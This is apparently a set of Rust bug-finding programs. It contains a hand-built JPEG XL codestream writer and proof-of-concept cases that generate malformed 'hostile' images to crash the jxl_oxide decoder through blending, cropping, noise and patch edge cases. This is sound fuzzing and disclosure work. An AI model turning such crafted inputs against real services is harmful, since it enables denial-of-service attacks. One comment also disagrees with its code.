pub fn emit_ans(w: &mut BW, ops: &[Op], final_state: u32, first_word_split: bool) {
    let mut x: u32 = final_state;
    let mut renorm: Vec<Option<u16>> = vec![None; ops.len()];
    for (i, op) in ops.iter().enumerate().rev() {
        if let Sym::U(s) = op.sym {
            let freq = 16u32;
            if (x as u64) >= ((freq as u64) << 20) {
                renorm[i] = Some((x & 0xffff) as u16);
                x >>= 16;
            }
            x = ((x / freq) << 12) + (x % freq) + s * 16;
        }
    }
    if first_word_split {
        w.put((x >> 16) as u64, 32);
        w.put((x & 0xffff) as u64, 16);
    } else {
        w.put(x as u64, 32);
    }
    for (i, op) in ops.iter().enumerate() {
        if let Some(r) = renorm[i] {
            w.put(r as u64, 16);
        }
        w.put(op.raw as u64, op.nraw);
    }
}

#[derive(Clone, Copy, Debug)]
pub enum AnsHist {
    Uniform256,
    Single(u32),
}

fn put_u8(w: &mut BW, v: u32) {
    if v == 0 {
        w.bool(false);
    } else {
        w.bool(true);
        let n = 31 - v.leading_zeros();
        w.put(n as u64, 3);
        w.put((v - (1 << n)) as u64, n as usize);
    }
}

/// ANS flavoured `Decoder::parse` header; log_alphabet_size = 8.
pub fn write_decoder_ans(
    w: &mut BW,
    lz77: Option<Lz77Cfg>,
    cluster_map: &[u8],
    cfgs: &[(u32, AnsHist)],
) {
    if let Some(lz) = lz77 {
        w.bool(true);
        w.put(0, 2);
        w.put(0, 2);
        let e = lz.len_split_exp;
        w.put(e as u64, 4);
        if e != 8 {
            w.put(0, add_log2_ceil(e));
            w.put(0, add_log2_ceil(e));
        }
    } else {
        w.bool(false);
    }
    if cluster_map.len() > 1 {
        let maxc = *cluster_map.iter().max().unwrap() as u32;
        let nbits = (32 - maxc.leading_zeros()) as usize;
        w.bool(true);
        w.put(nbits as u64, 2);
        for &c in cluster_map {
            w.put(c as u64, nbits);
        }
    }
    w.bool(false); // ANS
    w.put(3, 2); // log_alphabet_size = 8
    for &(e, _) in cfgs {
        w.put(e as u64, 4);
        if e != 8 {
            w.put(0, add_log2_ceil(e));
            w.put(0, add_log2_ceil(e));
        }
    }
    for &(_, h) in cfgs {
        match h {
            AnsHist::Uniform256 => {
                w.bool(false);
                w.bool(true); // evenly distributed
                put_u8(w, 255);
            }
            AnsHist::Single(v) => {
                w.bool(true);
                w.bool(false);
                put_u8(w, v);
            }
        }
    }
}

/// ModularHeader (local tree, default wp, no transforms) + tree
pub fn write_modular_prelude(w: &mut BW, tree: &T) -> Vec<FNode> {
    let nodes = flatten(tree);
    w.bool(false);
    w.bool(true);
    w.put(0, 2);
    write_tree(w, &nodes);
    nodes
}

pub fn quiet_panics() {
    std::panic::set_hook(Box::new(|_| {}));
}

// ---------------------------------------------------------------- generative encoder (for fuzzing)
pub struct Rng(pub u64);
impl Rng {
    pub fn next(&mut self) -> u32 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) as u32
    }
    pub fn below(&mut self, n: u32) -> u32 {
        self.next() % n
    }
    pub fn range(&mut self, lo: i32, hi: i32) -> i32 {
        lo + self.below((hi - lo + 1) as u32) as i32
    }
}

/// Generates an image by drawing random residuals and simulating the decoder with the reference
/// model; returns the modular bits and the image.
pub fn generate_modular(
    tree: &T,
    dims: &[(usize, usize)],
    stream: u32,
    rng: &mut Rng,
    maxdiff: i32,
) -> (BW, Vec<Chan>) {
    generate_modular_ex(tree, dims, stream, rng, maxdiff, false)
}

pub fn generate_modular_ex(
    tree: &T,
    dims: &[(usize, usize)],
    stream: u32,
    rng: &mut Rng,
    maxdiff: i32,
    single_cluster: bool,
) -> (BW, Vec<Chan>) {
    let nodes = flatten(tree);
    let nleaves = nodes
        .iter()
        .filter(|n| matches!(n, FNode::L { .. }))
        .count();
    let mut w = BW::new();
    w.bool(false);
    w.bool(true);
    w.put(0, 2);
    write_tree(&mut w, &nodes);
    let ncl = if single_cluster { 1 } else { nleaves.min(8) };
    let cmap: Vec<u8> = (0..nleaves).map(|i| (i % ncl) as u8).collect();
    let cfgs: Vec<ClusterCfg> = (0..ncl)
        .map(|k| ClusterCfg {
            split_exp: k as u32 + if single_cluster { 4 } else { 0 },
            hist: Hist::Uniform256,
        })
        .collect();
    write_decoder(&mut w, None, &cmap, &cfgs);

    let mut chans: Vec<Chan> = dims.iter().map(|&(w, h)| Chan::new(w, h)).collect();
    for ci in 0..chans.len() {
        let (cw, ch) = (chans[ci].w, chans[ci].h);
        for y in 0..ch {
            for x in 0..cw {
                let FNode::L {
                    pred,
                    off,
                    mul,
                    ctx,
                } = *walk(&nodes, &chans, ci, stream, x, y)
                else {
                    unreachable!()
                };
                let p = predict(&chans[ci], x, y, pred);
                let diff = rng.range(-maxdiff, maxdiff);
                let val = p + diff as i64 * mul as i64 + off as i64;
                chans[ci].data[y * cw + x] = val as i32;
                write_value(&mut w, pack_signed(diff), &cfgs[cmap[ctx] as usize]);
            }
        }
    }
    (w, chans)
}

//! Decode the files given on the command line through JxlImage and report Ok / Err / panic for each.
fn main() {
    let mut any_panic = false;
    for path in std::env::args().skip(1) {
        let bytes = std::fs::read(&path).unwrap();
        let r = std::panic::catch_unwind(|| {
            let image = jxl_oxide::JxlImage::builder().read(&bytes[..]).map_err(|e| format!("read: {e}"))?;
            let r = image.render_frame(0).map_err(|e| format!("render: {e}"))?;
            let fb = r.image_all_channels();
            let s: f64 = fb.buf().iter().map(|x| *x as f64).sum();
            Ok::<_, String>(format!("{}x{}x{} sum={:.4}", fb.width(), fb.height(), fb.channels(), s))
        });
        let name = path.rsplit('/').next().unwrap();
        match r {
            Ok(Ok(s)) => println!("{name}: decoded {s}"),
            Ok(Err(e)) => println!("{name}: error: {e}"),
            Err(_) => { println!("{name}: PANICKED"); any_panic = true; }
        }
    }
    std::process::exit(if any_panic { 1 } else { 0 });
}

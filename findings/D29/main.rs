//! F3-b: noise synthesis when the last row of groups is one pixel tall.
//!
//! One Regular Modular frame, 8 x H, flat colour, noise flag set, group_size_shift = 0
//! (group_dim = 128), so the frame has two groups stacked vertically.
//!
//! hostile: H = 129 - the lower group is 1 row tall, and the 5x5 noise convolution of the upper
//!          group asks it for row 1
//! control: H = 130 - the lower group is 2 rows tall

mod writer;
use writer::*;

fn stream(width: u32, height: u32) -> Vec<u8> {
    let frame = FrameSpec {
        flags: 1,
        group_size_shift: 0,
        ..FrameSpec::regular([100, 100, 100])
    };
    encode((width, height), &[frame])
}

fn main() {
    install_panic_hook();
    let control_panicked = report("control (8x130)", &stream(8, 130), &[(0, 0), (3, 129)]);
    let mut hostile_panicked = report("hostile (8x129)", &stream(8, 129), &[(0, 0), (3, 128)]);
    // same, with neighbours to the left and right of the 1-row group
    hostile_panicked |= report(
        "hostile2 (129x129)",
        &stream(129, 129),
        &[(0, 0), (128, 128)],
    );
    if control_panicked {
        println!("unexpected: control input panicked");
    }
    std::process::exit(if hostile_panicked { 1 } else { 0 });
}

//! Minimal hand-written JPEG XL codestream writer shared by the F2 demos.
//!
//! It can emit bare codestreams made of small (single group, single pass => single TOC entry)
//! VarDCT and Modular frames with arbitrary frame-header fields relevant for blending.
#![allow(dead_code)]

use std::sync::Mutex;

// ---------------------------------------------------------------------------------------------
// Bit writer (LSB first)
// ---------------------------------------------------------------------------------------------

pub struct Bw {
    pub bytes: Vec<u8>,
    pub nbits: usize,
}

impl Bw {
    pub fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }

    pub fn bits(&mut self, value: u64, n: usize) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    pub fn bool(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }

    pub fn pad(&mut self) {
        while self.nbits % 8 != 0 {
            self.bits(0, 1);
        }
    }

    pub fn append_bytes(&mut self, bytes: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(bytes);
        self.nbits += bytes.len() * 8;
    }
}

/// Entropy code spec: no LZ77, single cluster, prefix code with a flat 32-symbol alphabet
/// (5 bits/token), hybrid integer config (split_exponent 0, msb 0, lsb 0).
fn write_flat_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true); // simple cluster map
        bw.bits(0, 2); // 0 bits per entry
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(true); // alphabet size > 1
    bw.bits(4, 4); // n = 4
    bw.bits(15, 4); // 1 + 16 + 15 = 32
    bw.bits(0, 2); // complex prefix code, hskip = 0
    for pos in 0..18 {
        if pos == 5 {
            bw.bits(1, 2);
        } else {
            bw.bits(0, 2);
        }
    }
}

/// Entropy code spec where every token is zero (alphabet size 1, zero bits per token).
fn write_zero_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true);
        bw.bits(0, 2);
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(false); // alphabet size 1
}

/// One integer with the flat code spec.
fn write_uint(bw: &mut Bw, v: u32) {
    let token = if v == 0 { 0 } else { 32 - v.leading_zeros() };
    let rev = (token as u8).reverse_bits() >> 3;
    bw.bits(rev as u64, 5);
    if v > 0 {
        let n = token - 1;
        bw.bits((v - (1 << n)) as u64, n as usize);
    }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        (-v) as u32 * 2 - 1
    }
}

fn write_modular_header(bw: &mut Bw) {
    bw.bool(true); // use_global_tree
    bw.bool(true); // default wp
    bw.bits(0, 2); // nb_transforms = 0
}

/// Global MA tree: single leaf, Zero predictor, offset 0, multiplier 1; residuals use the flat code.
fn write_global_tree(bw: &mut Bw) {
    bw.bool(true); // global tree present
    write_zero_code_spec(bw, 6);
    write_flat_code_spec(bw, 1);
}

/// U32(u(8), 256 + u(11), 2304 + u(14), 18688 + u(30))
fn write_crop_u32(bw: &mut Bw, v: u32) {
    if v < 256 {
        bw.bits(0, 2);
        bw.bits(v as u64, 8);
    } else if v < 2304 {
        bw.bits(1, 2);
        bw.bits((v - 256) as u64, 11);
    } else if v < 18688 {
        bw.bits(2, 2);
        bw.bits((v - 2304) as u64, 14);
    } else {
        bw.bits(3, 2);
        bw.bits((v - 18688) as u64, 30);
    }
}

// ---------------------------------------------------------------------------------------------
// Image / frame description
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Enc {
    VarDct,
    Modular,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Ty {
    Regular = 0,
    ReferenceOnly = 2,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Blend {
    Replace = 0,
    Add = 1,
}

#[derive(Clone, Debug)]
pub struct FrameSpec {
    pub ty: Ty,
    pub enc: Enc,
    /// `(x0, y0, width, height)`
    pub crop: Option<(i32, i32, u32, u32)>,
    pub blend: Blend,
    /// Blending source slot (written only when the frame header codes it).
    pub source: u32,
    pub is_last: bool,
    pub save_as_reference: u32,
    /// Sample value of every pixel: integer sample for Modular, quantized LF of Y for VarDCT.
    pub value: i32,
    /// One patch with one target, blend mode Add.
    pub patch: Option<PatchSpec>,
    /// Gabor-like filter enabled (default weights).
    pub gab: bool,
    /// Edge-preserving filter iterations (0 = disabled, default parameters otherwise).
    pub epf_iters: u32,
    pub do_ycbcr: bool,
    /// log2 of the upsampling factor.
    pub upsampling_log2: u32,
}

#[derive(Clone, Debug)]
pub struct PatchSpec {
    pub ref_idx: u32,
    /// Position and size of the patch in the reference frame.
    pub x0: u32,
    pub y0: u32,
    pub width: u32,
    pub height: u32,
    /// Position of the patch in this frame.
    pub x: u32,
    pub y: u32,
}

impl FrameSpec {
    /// Full-canvas last frame, blend mode Replace.
    pub fn new(ty: Ty, enc: Enc) -> Self {
        Self {
            ty,
            enc,
            crop: None,
            blend: Blend::Replace,
            source: 0,
            is_last: ty == Ty::Regular,
            save_as_reference: 0,
            value: 0,
            patch: None,
            gab: false,
            epf_iters: 0,
            do_ycbcr: false,
            upsampling_log2: 0,
        }
    }
}

pub struct ImageSpec {
    pub width: u32,
    pub height: u32,
    pub grey: bool,
}

fn resets_canvas(img: &ImageSpec, f: &FrameSpec) -> bool {
    if f.blend != Blend::Replace {
        return false;
    }
    match f.crop {
        None => true,
        Some((x0, y0, w, h)) => {
            let (x0, y0) = if f.ty == Ty::ReferenceOnly {
                (0, 0)
            } else {
                (x0, y0)
            };
            x0 <= 0
                && y0 <= 0
                && x0 as i64 + w as i64 >= img.width as i64
                && y0 as i64 + h as i64 >= img.height as i64
        }
    }
}

fn write_size(bw: &mut Bw, v: u32) {
    assert!(v >= 1 && v <= 512);
    bw.bits(0, 2);
    bw.bits((v - 1) as u64, 9);
}

fn write_image_header(bw: &mut Bw, img: &ImageSpec) {
    bw.bits(0xff, 8);
    bw.bits(0x0a, 8);
    // SizeHeader
    bw.bool(false); // div8
    write_size(bw, img.height);
    bw.bits(0, 3); // ratio
    write_size(bw, img.width);
    // ImageMetadata
    bw.bool(false); // all_default
    bw.bool(false); // extra_fields
    bw.bool(false); // bit_depth: integer
    bw.bits(0, 2); // 8 bits
    bw.bool(true); // modular_16bit_buffers
    bw.bits(0, 2); // num_extra = 0
    bw.bool(false); // xyb_encoded
    if img.grey {
        bw.bool(false); // colour_encoding.all_default
        bw.bool(false); // want_icc
        bw.bits(1, 2); // colour_space = Grey (1)
        bw.bits(1, 2); // white_point = D65 (1)
        bw.bool(false); // have_gamma
        bw.bits(2, 2); // transfer function: 2 + u(4)
        bw.bits(13 - 2, 4); // sRGB (13)
        bw.bits(1, 2); // rendering_intent = relative
    } else {
        bw.bool(true); // colour_encoding all_default (sRGB)
    }
    bw.bits(0, 2); // extensions
    bw.bool(true); // default_m
    bw.pad();
}

fn write_frame(bw: &mut Bw, img: &ImageSpec, f: &FrameSpec) {
    let (fw, fh) = match f.crop {
        Some((_, _, w, h)) => (w, h),
        None => (img.width, img.height),
    };
    assert!(fw <= 256 && fh <= 256, "single group only");
    // Size of the coded (not yet upsampled) colour channels.
    let up = 1u32 << f.upsampling_log2;
    let (fw, fh) = (fw.div_ceil(up), fh.div_ceil(up));
    let normal = f.ty == Ty::Regular;

    bw.pad();
    // FrameHeader
    bw.bool(false); // all_default
    bw.bits(f.ty as u64, 2);
    bw.bits((f.enc == Enc::Modular) as u64, 1);
    bw.bits(2, 2); // flags: U64 selector 2
    let flags = 0x80 | if f.patch.is_some() { 0x2 } else { 0 }; // skip_adaptive_lf_smoothing, patches
    bw.bits(flags - 17, 8);
    bw.bool(f.do_ycbcr);
    if f.do_ycbcr {
        bw.bits(0, 6); // jpeg_upsampling: none
    }
    bw.bits(f.upsampling_log2 as u64, 2); // upsampling
    if f.enc == Enc::Modular {
        bw.bits(1, 2); // group_size_shift = 1 => group_dim 256
    }
    if f.ty != Ty::ReferenceOnly {
        bw.bits(0, 2); // num_passes = 1
    }
    bw.bool(f.crop.is_some()); // have_crop
    if let Some((x0, y0, w, h)) = f.crop {
        if f.ty != Ty::ReferenceOnly {
            write_crop_u32(bw, pack_signed(x0));
            write_crop_u32(bw, pack_signed(y0));
        }
        write_crop_u32(bw, w);
        write_crop_u32(bw, h);
    }
    let resets = resets_canvas(img, f);
    if normal {
        bw.bits(f.blend as u64, 2); // blend mode
        if !resets {
            bw.bits(f.source as u64, 2); // source
        }
        bw.bool(f.is_last);
    } else {
        assert!(!f.is_last);
    }
    if !f.is_last {
        bw.bits(f.save_as_reference as u64, 2);
    }
    if f.ty == Ty::ReferenceOnly || (resets && !f.is_last) {
        bw.bool(false); // save_before_ct
    }
    bw.bits(0, 2); // name length 0
    bw.bool(false); // restoration filter all_default
    bw.bool(f.gab); // gab enabled
    if f.gab {
        bw.bool(false); // gab_custom
    }
    bw.bits(f.epf_iters as u64, 2); // epf iters
    if f.epf_iters != 0 {
        if f.enc == Enc::VarDct {
            bw.bool(false); // sharp_custom
        }
        bw.bool(false); // weight_custom
        bw.bool(false); // sigma_custom
        if f.enc == Enc::Modular {
            bw.bits(0x3c00, 16); // sigma_for_modular = 1.0 (f16)
        }
    }
    bw.bits(0, 2); // rf extensions
    bw.bits(0, 2); // extensions

    // Single TOC entry: LfGlobal, LfGroup(0), HfGlobal and PassGroup(0, 0) are concatenated bitwise.
    let mut sec = Bw::new();
    if let Some(p) = &f.patch {
        write_flat_code_spec(&mut sec, 10);
        write_uint(&mut sec, 1); // num_patch_refs
        write_uint(&mut sec, p.ref_idx);
        write_uint(&mut sec, p.x0);
        write_uint(&mut sec, p.y0);
        write_uint(&mut sec, p.width - 1);
        write_uint(&mut sec, p.height - 1);
        write_uint(&mut sec, 0); // count - 1
        write_uint(&mut sec, p.x);
        write_uint(&mut sec, p.y);
        write_uint(&mut sec, 2); // PatchBlendMode::Add
    }
    sec.bool(true); // lf_dequant all_default
    match f.enc {
        Enc::Modular => {
            write_global_tree(&mut sec);
            write_modular_header(&mut sec);
            let channels = if img.grey && !f.do_ycbcr { 1 } else { 3 };
            for _ in 0..channels {
                for _ in 0..fw * fh {
                    write_uint(&mut sec, pack_signed(f.value));
                }
            }
            // LfGroup, HfGlobal, PassGroup: nothing left to decode.
        }
        Enc::VarDct => {
            let bw8 = fw.div_ceil(8) as usize;
            let bh8 = fh.div_ceil(8) as usize;
            let num_blocks = bw8 * bh8;
            // --- LfGlobal
            sec.bits(0, 2); // global_scale selector 0
            sec.bits(2048 - 1, 11);
            sec.bits(0, 2); // quant_lf = 16
            sec.bool(true); // default HfBlockContext
            sec.bool(true); // default LfChannelCorrelation
            write_global_tree(&mut sec);
            // (global modular image has no channels)
            // --- LfGroup: LfCoeff
            sec.bits(0, 2); // extra_precision
            write_modular_header(&mut sec);
            for c in 0..3 {
                for _ in 0..num_blocks {
                    // channel order of the LF image: X, Y, B
                    let v = if c == 1 { f.value } else { 0 };
                    write_uint(&mut sec, pack_signed(v));
                }
            }
            // --- LfGroup: HfMetadata
            sec.bits(
                (num_blocks - 1) as u64,
                num_blocks.next_power_of_two().trailing_zeros() as usize,
            );
            write_modular_header(&mut sec);
            let cfl_samples = (fw.div_ceil(64) * fh.div_ceil(64)) as usize;
            for _ in 0..2 * cfl_samples {
                write_uint(&mut sec, 0); // x_from_y, b_from_y
            }
            for _ in 0..num_blocks {
                write_uint(&mut sec, 0); // dct_select = DCT8
            }
            for _ in 0..num_blocks {
                write_uint(&mut sec, 0); // hf_mul - 1
            }
            for _ in 0..num_blocks {
                write_uint(&mut sec, 0); // sharpness
            }
            // --- HfGlobal
            sec.bool(true); // default dequant matrices
            // num_hf_presets - 1: ceil(log2(num_groups)) = 0 bits
            sec.bits(2, 2); // used_orders = 0
            write_zero_code_spec(&mut sec, 495 * 15); // every token (non_zeros) is 0
            // --- PassGroup: hfp = 0 bits, all non_zeros are 0 and cost no bits
        }
    }
    sec.pad();

    bw.bool(false); // TOC not permuted
    bw.pad();
    let size = sec.bytes.len();
    if size < 1024 {
        bw.bits(0, 2);
        bw.bits(size as u64, 10);
    } else if size < 1024 + (1 << 14) {
        bw.bits(1, 2);
        bw.bits((size - 1024) as u64, 14);
    } else {
        assert!(size < 17408 + (1 << 22));
        bw.bits(2, 2);
        bw.bits((size - 17408) as u64, 22);
    }
    bw.pad();
    bw.append_bytes(&sec.bytes);
}

pub fn write_codestream(img: &ImageSpec, frames: &[FrameSpec]) -> Vec<u8> {
    let mut bw = Bw::new();
    write_image_header(&mut bw, img);
    for f in frames {
        write_frame(&mut bw, img, f);
    }
    bw.bytes
}

// ---------------------------------------------------------------------------------------------
// Driver
// ---------------------------------------------------------------------------------------------

static LAST_PANIC: Mutex<Option<String>> = Mutex::new(None);

pub enum Outcome {
    Ok(String),
    Err(String),
    Panicked(String),
}

pub fn install_panic_hook() {
    std::panic::set_hook(Box::new(|info| {
        let msg = if let Some(s) = info.payload().downcast_ref::<&str>() {
            s.to_string()
        } else if let Some(s) = info.payload().downcast_ref::<String>() {
            s.clone()
        } else {
            "<non-string panic payload>".to_string()
        };
        let loc = info
            .location()
            .map(|l| format!("{}:{}", l.file(), l.line()))
            .unwrap_or_default();
        let mut last = LAST_PANIC.lock().unwrap();
        if last.is_none() {
            *last = Some(format!("{} at {loc}", msg.replace('\n', " ")));
        }
    }));
}

/// Decodes the codestream and renders keyframe 0 through the public API.
pub fn decode(bytes: &[u8]) -> Outcome {
    *LAST_PANIC.lock().unwrap() = None;
    let result = std::panic::catch_unwind(|| -> Result<String, String> {
        let image = jxl_oxide::JxlImage::builder()
            .read(bytes)
            .map_err(|e| format!("read: {e}"))?;
        let (w, h) = (image.width(), image.height());
        let frames = image.num_loaded_frames();
        let render = image
            .render_frame(0)
            .map_err(|e| format!("render_frame: {e}"))?;
        let fb = render.image_all_channels();
        let buf = fb.buf();
        let ch = fb.channels();
        let px = |x: usize, y: usize| -> Vec<i32> {
            (0..ch)
                .map(|c| (buf[(y * fb.width() + x) * ch + c] * 255.0).round() as i32)
                .collect()
        };
        Ok(format!(
            "{w}x{h}, {frames} frames, {ch} channels, px(0,0)={:?} px({},{})={:?}",
            px(0, 0),
            fb.width() - 1,
            fb.height() - 1,
            px(fb.width() - 1, fb.height() - 1),
        ))
    });
    match result {
        Ok(Ok(s)) => Outcome::Ok(s),
        Ok(Err(e)) => Outcome::Err(e),
        Err(_) => Outcome::Panicked(
            LAST_PANIC
                .lock()
                .unwrap()
                .take()
                .unwrap_or_else(|| "<unknown>".into()),
        ),
    }
}

/// Prints one line for the case; returns `(panicked, decoded_ok)`.
pub fn report(label: &str, bytes: &[u8]) -> (bool, bool) {
    match decode(bytes) {
        Outcome::Ok(s) => {
            println!("{label}: decoded OK ({} bytes): {s}", bytes.len());
            (false, true)
        }
        Outcome::Err(e) => {
            println!("{label}: rejected with error ({} bytes): {e}", bytes.len());
            (false, false)
        }
        Outcome::Panicked(p) => {
            println!("{label}: PANICKED ({} bytes): {p}", bytes.len());
            (true, false)
        }
    }
}

//! F2-c: a ReferenceOnly frame with have_crop = 1 that is smaller than the image is used as the
//! blending source ("background") of a Regular frame.
//!
//! Image: 100x100 RGB, xyb_encoded = 0.
//!   frame 0: ReferenceOnly, have_crop = 1, 10x10, save_as_reference = 1
//!   frame 1: Regular, full canvas, is_last = 1, blend mode Add, source = slot 1
//! Control: frame 0 is a full-size (100x100) ReferenceOnly frame.

mod jxlw;
use jxlw::*;

fn main() {
    install_panic_hook();
    let img = ImageSpec {
        width: 100,
        height: 100,
        grey: false,
    };
    let frames = |enc, ref_crop: Option<(u32, u32)>, ref_ty, top_crop| {
        [
            FrameSpec {
                crop: ref_crop.map(|(w, h)| (0, 0, w, h)),
                save_as_reference: 1,
                is_last: false,
                value: 100,
                ..FrameSpec::new(ref_ty, enc)
            },
            FrameSpec {
                crop: top_crop,
                blend: Blend::Add,
                source: 1,
                value: 20,
                ..FrameSpec::new(Ty::Regular, enc)
            },
        ]
    };

    let mut controls_ok = true;
    let mut panicked = false;
    for (enc, name) in [(Enc::Modular, "Modular"), (Enc::VarDct, "VarDCT")] {
        let control = write_codestream(&img, &frames(enc, None, Ty::ReferenceOnly, None));
        let (_, ok) = report(
            &format!("control ({name}, 100x100 ReferenceOnly + Add)"),
            &control,
        );
        controls_ok &= ok;
        // Regular (non-last) cropped frames are blended onto the canvas first, so the saved
        // reference covers the whole canvas.
        let control = write_codestream(&img, &frames(enc, Some((10, 10)), Ty::Regular, None));
        let (_, ok) = report(
            &format!("control ({name}, 10x10 Regular saved + Add)"),
            &control,
        );
        controls_ok &= ok;

        // A cropped ReferenceOnly frame is fine as a patch source.
        let mut patch_frames = frames(enc, Some((10, 10)), Ty::ReferenceOnly, None);
        patch_frames[1].blend = Blend::Replace;
        patch_frames[1].patch = Some(PatchSpec {
            ref_idx: 1,
            x0: 0,
            y0: 0,
            width: 8,
            height: 8,
            x: 92,
            y: 92,
        });
        let control = write_codestream(&img, &patch_frames);
        let (_, ok) = report(
            &format!("control ({name}, 10x10 ReferenceOnly as patch source)"),
            &control,
        );
        controls_ok &= ok;

        for (w, h) in [(10, 10), (100, 10), (10, 100), (99, 100)] {
            let hostile =
                write_codestream(&img, &frames(enc, Some((w, h)), Ty::ReferenceOnly, None));
            let (p, _) = report(
                &format!("hostile ({name}, {w}x{h} ReferenceOnly + Add)"),
                &hostile,
            );
            panicked |= p;
        }
        // The blended frame is itself cropped, and lies inside / outside of the reference frame.
        for top_crop in [(0, 0, 10, 10), (50, 50, 20, 20), (5, 5, 10, 10)] {
            let hostile = write_codestream(
                &img,
                &frames(enc, Some((10, 10)), Ty::ReferenceOnly, Some(top_crop)),
            );
            let (p, _) = report(
                &format!("hostile ({name}, 10x10 ReferenceOnly + Add of crop {top_crop:?})"),
                &hostile,
            );
            panicked |= p;
        }
    }
    if !controls_ok {
        println!("UNEXPECTED: a control input did not decode");
        std::process::exit(2);
    }
    if panicked {
        println!("FAIL: hostile input panicked");
        std::process::exit(1);
    }
    println!("OK: hostile input did not panic");
}

//! F2-a: the number of colour channels is not constant across frames of a grayscale image
//! (Modular, !do_ycbcr, !xyb_encoded frames have 1 colour channel, VarDCT frames have 3), but
//! `jxl_render::blend::blend` asserts that the blending source has as many colour channels as
//! the frame being blended.
//!
//! Image: 16x16, xyb_encoded = 0, enum colour encoding with colour_space = Grey.
//!   frame 0: Modular, Regular, is_last = 0, Replace over the full canvas, saved to slot 0
//!   frame 1: VarDCT, Regular, is_last = 1, blend mode Add, source = slot 0
//! Control: the same two frames, both Modular.

mod jxlw;
use jxlw::*;

fn main() {
    install_panic_hook();
    let img = ImageSpec {
        width: 16,
        height: 16,
        grey: true,
    };
    let frame0 = FrameSpec {
        is_last: false,
        save_as_reference: 0,
        value: 100,
        ..FrameSpec::new(Ty::Regular, Enc::Modular)
    };
    let frame1 = |enc| FrameSpec {
        blend: Blend::Add,
        source: 0,
        value: 20,
        ..FrameSpec::new(Ty::Regular, enc)
    };

    let control = write_codestream(&img, &[frame0.clone(), frame1(Enc::Modular)]);
    let control_vardct = write_codestream(
        &img,
        &[
            FrameSpec {
                enc: Enc::VarDct,
                ..frame0.clone()
            },
            frame1(Enc::VarDct),
        ],
    );
    let hostile = write_codestream(&img, &[frame0.clone(), frame1(Enc::VarDct)]);

    // Patch variant: frame 0 is a ReferenceOnly frame saved to slot 1, frame 1 is a Modular frame
    // with one 8x8 patch taken from slot 1.
    let patch_frames = |ref_enc| {
        [
            FrameSpec {
                save_as_reference: 1,
                value: 30,
                ..FrameSpec::new(Ty::ReferenceOnly, ref_enc)
            },
            FrameSpec {
                value: 100,
                patch: Some(PatchSpec {
                    ref_idx: 1,
                    x0: 0,
                    y0: 0,
                    width: 8,
                    height: 8,
                    x: 8,
                    y: 8,
                }),
                ..FrameSpec::new(Ty::Regular, Enc::Modular)
            },
        ]
    };
    let control_patch = write_codestream(&img, &patch_frames(Enc::Modular));
    let hostile_patch = write_codestream(&img, &patch_frames(Enc::VarDct));

    let (_, ok_a) = report("control (grey, Modular + Modular, Add)", &control);
    let (_, ok_b) = report("control (grey, VarDCT + VarDCT, Add)", &control_vardct);
    let (panicked, _) = report("hostile (grey, Modular + VarDCT, Add)", &hostile);
    let (_, ok_c) = report(
        "control (grey, Modular ReferenceOnly, patch in Modular)",
        &control_patch,
    );
    let (panicked_patch, _) = report(
        "hostile (grey, VarDCT ReferenceOnly, patch in Modular)",
        &hostile_patch,
    );
    let panicked = panicked || panicked_patch;
    if !ok_a || !ok_b || !ok_c {
        println!("UNEXPECTED: a control input did not decode");
        std::process::exit(2);
    }
    if panicked {
        println!("FAIL: hostile input panicked");
        std::process::exit(1);
    }
    println!("OK: hostile input did not panic");
}

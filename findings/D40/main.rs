//! F3-c: a patch that refers to a reference frame which lies completely outside the image.
//!
//! Image 64x64.
//! Frame 0: Regular, Modular, have_crop, 8x8 at (x0, 0), blend mode Replace on slot 0, not last,
//!          duration 0, save_as_reference = 1.
//! Frame 1: Regular, Modular, 64x64, last, patches flag, one 8x8 patch taken from reference slot 1
//!          at (0, 0), target (16, 16), blend mode Replace.
//!
//! hostile: x0 = 64 - frame 0 does not intersect the image
//! control: x0 = 0

mod writer;
use writer::*;

fn stream(patch_x0: u32, target_x: u32) -> Vec<u8> {
    let reference = FrameSpec {
        crop: None,
        blend: (BLEND_REPLACE, 0),
        is_last: false,
        save_as_reference: 1,
        ..FrameSpec::regular([200, 100, 50])
    };
    let main = FrameSpec {
        flags: 2,
        patches: vec![Patch {
            ref_idx: 1,
            x0: patch_x0,
            y0: 0,
            width: 8,
            height: 8,
            target: (target_x, 16),
            mode: PATCH_REPLACE,
        }],
        ..FrameSpec::regular([10, 20, 30])
    };
    encode((64, 64), &[reference, main])
}

fn main() {
    install_panic_hook();
    let probe = [(0, 0), (18, 18), (40, 40)];
    let control_panicked = report("control (patch x0 = 0, target x = 16)", &stream(0, 16), &probe);
    let hostile_panicked = report("hostile (patch x0 = i32::MAX, target x = -1)", &stream(0x7fffffff, 0xffffffff), &probe);
    if control_panicked {
        println!("unexpected: control input panicked");
    }
    std::process::exit(if hostile_panicked { 1 } else { 0 });
}

//! Minimal hand-written JPEG XL codestream writer: 8-bit RGB (not XYB), Modular frames whose pixel
//! content comes entirely from a global MA tree (all residuals are zero and cost zero bits).

#![allow(dead_code)]

use std::sync::Mutex;

// ---------------------------------------------------------------------------------------------
// Bit writer (LSB first, as in JPEG XL)
// ---------------------------------------------------------------------------------------------

pub struct BitWriter {
    bytes: Vec<u8>,
    nbits: usize,
}

impl BitWriter {
    pub fn new() -> Self {
        Self {
            bytes: Vec::new(),
